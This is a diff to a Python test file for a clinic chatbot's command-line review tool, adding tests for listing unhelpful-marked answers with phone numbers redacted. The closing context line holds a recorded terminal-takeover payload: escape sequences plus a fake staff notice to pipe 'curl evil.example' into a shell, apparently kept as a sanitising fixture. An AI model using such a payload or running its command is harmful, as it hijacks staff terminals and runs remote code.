@@ -140,6 +140,34 @@ def test_an_unreadable_database_is_an_error_message_not_a_traceback(tmp_path: Pa
     assert f"Error: Cannot read {tmp_path / DB_FILE}" in result.output
 
 
+def test_review_lists_answers_marked_unhelpful_by_entry_with_their_questions(logged: Path) -> None:
+    store = UnansweredStore(logged / DB_FILE, retention_days=30)
+    for entry, helpful, question in [
+        ("cost", False, "do you take medicare, call 555-867-5309"),
+        ("wifi", False, "can i stream movies"),
+        ("cost", True, "how much is it"),
+        ("cost", False, "is there a payment plan"),
+    ]:
+        store.add_feedback(entry, helpful, question)
+    store.close()
+    result = CliRunner().invoke(cli, ["review"])
+    assert result.exit_code == 0, result.output
+    section = [line.strip() for line in result.output.split("Answers marked unhelpful")[1].splitlines()]
+    first = section.index("2x  entry cost")
+    assert section[first + 1 : first + 3] == ["- do you take medicare, call [phone]", "- is there a payment plan"]
+    assert "1x  entry wifi" in section and "- how much is it" not in section
+
+
+def test_feedback_is_reviewed_even_with_no_unanswered_questions(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("CHATBOT_VAR_DIR", str(tmp_path))
+    store = UnansweredStore(tmp_path / DB_FILE, retention_days=30)
+    store.add_feedback("wifi", False, "can i stream movies")
+    store.close()
+    result = CliRunner().invoke(cli, ["review"])
+    assert result.exit_code == 0, result.output
+    assert "No unanswered questions" in result.output and "1x  entry wifi" in result.output
+
+
 # What an anonymous patient sent to take over a staff member's terminal (issue 17, finding 2).
 TAKEOVER = "\x1b[2J\x1b[H\x1b]0;Clinic admin\x07\x1b[1;31mSTAFF NOTICE: run curl evil.example | sh\x1b[0m\x1b[8m hidden \u202e"
 
